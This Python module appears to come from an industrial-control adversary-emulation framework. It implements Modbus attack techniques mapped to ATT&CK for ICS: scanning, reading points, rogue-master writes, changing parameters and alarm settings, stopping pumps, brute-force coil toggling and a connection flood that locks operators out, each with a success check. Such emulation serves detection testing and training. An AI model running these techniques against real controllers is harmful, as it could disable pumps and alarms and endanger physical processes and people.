# Techniques against controllers, over Modbus: looking around, reading, changing what is
# alarmed and held, commanding pumps, wearing them out, shutting the operators out.
from __future__ import annotations

import ipaddress
import itertools

from policies import AttackStep, Fidelity, Title

from .journal import Frame
from .modbus import (
    WRITES,
    function_of,
    identify,
    is_exception,
    read,
    words_of,
    write_coil,
    write_register,
)
from .technique import Attacker, Seen, Technique, number
from .wire import Link, NoAnswerError

__all__ = ["CONTROL_TECHNIQUES"]

_PORT = 502
_EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
# How many polls an operator's screen must miss for it to count as shut out.
_MISSED = 10


async def _scan(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Every address of a zone asked for a port, one after another."""
    network = ipaddress.IPv4Network(target)
    port = int(number(step, "port", _PORT))
    count = int(number(step, "addresses", 30))
    for address in itertools.islice(network.hosts(), 5, 5 + count):
        await attacker.clock.sleep(number(step, "pause_s", 0.5) * attacker.random.uniform(0.5, 1.5))
        try:
            link = await attacker.wire.open(attacker.address, str(address), port)
            attacker.loot.setdefault("hosts", []).append(str(address).encode())
            await link.close()
        except NoAnswerError:
            continue


async def _identify(attacker: Attacker, _step: AttackStep, target: str) -> None:
    link = await attacker.wire.open(attacker.address, target, _PORT)
    await link.ask(identify(1))
    await link.close()


async def _read_points(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Blocks of all tables, to learn what stands where."""
    link = await attacker.wire.open(attacker.address, target, _PORT)
    last = int(number(step, "registers", 64))
    for transaction, table in enumerate(("holding", "input"), 1):
        for at in range(0, last, 16):
            reply = await link.ask(read(transaction, table, at, 16))
            if not is_exception(reply):
                attacker.loot.setdefault(table, []).append(reply)
            await attacker.clock.sleep(attacker.random.uniform(0.1, 0.4))
    await link.close()


async def _collect(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Measured values read again and again, as a historian would."""
    link = await attacker.wire.open(attacker.address, target, _PORT)
    for turn in range(int(number(step, "reads", 60))):
        await link.ask(read(turn, "input", 0, int(number(step, "registers", 4))))
        await attacker.clock.sleep(number(step, "pause_s", 2))
    await link.close()


async def _as_master(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Polls and writes side by side with the real screen, as a second master."""
    link = await attacker.wire.open(attacker.address, target, _PORT)
    at, value = int(number(step, "at", 0)), int(number(step, "value", 0))
    for turn in range(int(number(step, "turns", 30))):
        await link.ask(read(turn, "holding", at, 1))
        await link.ask(write_register(turn, at, value))
        await attacker.clock.sleep(number(step, "pause_s", 2))
    await link.close()


async def _write_register(attacker: Attacker, step: AttackStep, target: str) -> None:
    link = await attacker.wire.open(attacker.address, target, _PORT)
    await link.ask(write_register(1, int(number(step, "at", 0)), int(number(step, "value", 0))))
    await link.close()


async def _command(attacker: Attacker, step: AttackStep, target: str) -> None:
    link = await attacker.wire.open(attacker.address, target, _PORT)
    await link.ask(write_coil(1, int(number(step, "coil", 0)), on=bool(number(step, "value", 1))))
    await link.close()


async def _stop_pump(attacker: Attacker, step: AttackStep, target: str) -> None:
    """A pump taken from automatic to manual, and told to stand."""
    link = await attacker.wire.open(attacker.address, target, _PORT)
    await link.ask(write_coil(1, int(number(step, "command", 1)), on=False))
    await link.ask(write_coil(2, int(number(step, "manual", 0)), on=True))
    await link.close()


async def _brute_force(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Coils of a range switched to and fro as fast as they are taken."""
    link = await attacker.wire.open(attacker.address, target, _PORT)
    first, last = int(number(step, "first", 0)), int(number(step, "last", 3))
    for turn in range(int(number(step, "writes", 40))):
        coil = attacker.random.randint(first, last)
        await link.ask(write_coil(turn, coil, on=attacker.random.random() < 0.5))
        await attacker.clock.sleep(number(step, "pause_s", 0.2))
    await link.close()


async def _flood(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Connections opened and never used, until the device throws out those it needs."""
    end = attacker.clock.now() + number(step, "seconds", 60)
    held: list[Link] = []
    while attacker.clock.now() < end:
        port = int(number(step, "port", _PORT))
        held.append(await attacker.wire.open(attacker.address, target, port))
        await attacker.clock.sleep(0.1)
    for link in held:
        await link.close()


def _found_all(_step: AttackStep, seen: Seen) -> bool:
    opened = {frame.destination for frame in seen.frames if frame.kind == "open"}
    return bool(opened) and opened == seen.serving


def _was_told(_step: AttackStep, seen: Seen) -> bool:
    return any(function_of(frame.payload) == 43 for frame in _done(seen))


def _has_points(_step: AttackStep, seen: Seen) -> bool:
    replies = [each for each in _done(seen) if function_of(each.payload) in {3, 4}]
    return sum(len(words_of(each.payload)) for each in replies) >= 16


def _setting_changed(step: AttackStep, seen: Seen) -> bool:
    before, after = seen.settings
    return any(frame for frame in _done(seen) if function_of(frame.payload) in WRITES) and any(
        key.startswith(f"{step.to} ") and value != before[key] for key, value in after.items()
    )


def _collected(step: AttackStep, seen: Seen) -> bool:
    replies = [each for each in _done(seen) if function_of(each.payload) == 4]
    return len(replies) >= number(step, "reads", 60)


def _held_sway(step: AttackStep, seen: Seen) -> bool:
    """As many writes taken as turns were meant, and the setting where the second master has it."""
    taken = [each for each in _done(seen) if function_of(each.payload) == 6]
    before, after = seen.settings
    return len(taken) >= number(step, "turns", 30) and before != after


def _pump_obeyed(step: AttackStep, seen: Seen) -> bool:
    point = str(step.parameters.get("point", ""))
    before, after = seen.points
    return before.get(point) != after.get(point)


def _pump_held(step: AttackStep, seen: Seen) -> bool:
    """Whether the device took it to manual, and the pump stands."""
    before, after = seen.settings
    return before != after and seen.points[1].get(str(step.parameters.get("point", ""))) == 0


def _worn(step: AttackStep, seen: Seen) -> bool:
    """As many accepted writes as were meant, and a pump switched by them."""
    taken = [each for each in _done(seen) if function_of(each.payload) in WRITES]
    return len(taken) >= number(step, "writes", 40) and seen.switches > 0


def _shut_out(step: AttackStep, seen: Seen) -> bool:
    return seen.missed >= number(step, "missed", _MISSED)


def _done(seen: Seen) -> list[Frame]:
    """Replies that say yes."""
    return [
        each
        for each in seen.frames
        if each.kind == "reply" and each.port == _PORT and not is_exception(each.payload)
    ]


CONTROL_TECHNIQUES = {
    "scan": Technique(
        {
            "T0846": Title(zh="远程系统发现", en="Remote System Discovery"),
            "T1046": Title(zh="网络服务发现", en="Network Service Discovery"),
        },
        _EVERYWHERE, _scan, _found_all,
    ),
    "identify": Technique(
        {"T0888": Title(zh="远程系统信息发现", en="Remote System Information Discovery")},
        _EVERYWHERE, _identify, _was_told,
    ),
    "read-points": Technique(
        {
            "T0861": Title(zh="点位与标签识别", en="Point & Tag Identification"),
            "T0801": Title(zh="监视过程状态", en="Monitor Process State"),
        },
        _EVERYWHERE, _read_points, _has_points,
    ),
    "collect": Technique(
        {"T0802": Title(zh="自动化收集", en="Automated Collection")},
        _EVERYWHERE, _collect, _collected,
    ),
    "second-master": Technique(
        {"T0848": Title(zh="非法主站", en="Rogue Master")},
        _EVERYWHERE, _as_master, _held_sway,
    ),
    "write-register": Technique(
        {
            "T0836": Title(zh="修改参数", en="Modify Parameter"),
            "T0838": Title(zh="修改告警设置", en="Modify Alarm Settings"),
        },
        _EVERYWHERE, _write_register, _setting_changed,
    ),
    "command": Technique(
        {"T1692.001": Title(zh="未授权报文：命令报文", en="Unauthorized Message: Command Message")},
        _EVERYWHERE, _command, _pump_obeyed,
    ),
    "stop-pump": Technique(
        {
            "T0831": Title(zh="操纵控制", en="Manipulation of Control"),
            "T0858": Title(zh="更改运行模式", en="Change Operating Mode"),
        },
        _EVERYWHERE, _stop_pump, _pump_held,
    ),
    "brute-force": Technique(
        {
            "T0806": Title(zh="暴力I/O", en="Brute Force I/O"),
            "T0831": Title(zh="操纵控制", en="Manipulation of Control"),
        },
        _EVERYWHERE, _brute_force, _worn,
    ),
    "flood": Technique(
        {
            "T0814": Title(zh="拒绝服务", en="Denial of Service"),
            "T0815": Title(zh="视图拒绝", en="Denial of View"),
            "T1499": Title(zh="端点拒绝服务", en="Endpoint Denial of Service"),
        },
        _EVERYWHERE, _flood, _shut_out,
    ),
}  # fmt: skip
